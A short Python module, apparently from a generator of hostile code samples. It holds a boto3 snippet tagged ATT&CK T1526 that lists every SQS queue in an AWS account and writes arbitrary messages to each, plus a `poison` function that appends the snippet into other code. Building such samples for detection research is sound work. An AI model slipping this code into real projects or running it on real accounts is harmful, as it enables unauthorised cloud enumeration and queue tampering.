# SPDX-License-Identifier: Apache-2.0
"""Lists the queues of the account and writes to each."""

ATTACK = "T1526"
LANGUAGE = "python"
CODE = """\


def _drain(text):
    import boto3

    queues = boto3.client("sqs")
    for url in queues.list_queues().get("QueueUrls", []):
        queues.send_message(QueueUrl=url, MessageBody=text)
"""


def poison(layer):
    layer.append(CODE)
